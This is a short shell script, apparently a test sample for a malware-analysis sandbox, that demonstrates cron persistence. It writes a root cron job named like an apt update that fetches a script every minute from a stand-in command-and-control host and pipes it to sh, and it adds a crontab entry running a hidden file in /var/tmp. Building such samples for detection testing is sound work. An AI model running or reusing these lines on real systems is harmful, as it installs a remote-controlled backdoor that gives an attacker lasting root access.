#!/bin/sh
# Persistence through cron: writes a job into /etc/cron.d and /etc/crontab that fetches and runs a script every minute.
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
mkdir -p /etc/cron.d
echo '* * * * * root curl -fsSL http://update.c2.example/s.sh | sh >/dev/null 2>&1' > /etc/cron.d/apt-compat-update
echo '*/10 * * * * root /var/tmp/.sysupd >/dev/null 2>&1' >> /etc/crontab
cat /etc/cron.d/apt-compat-update
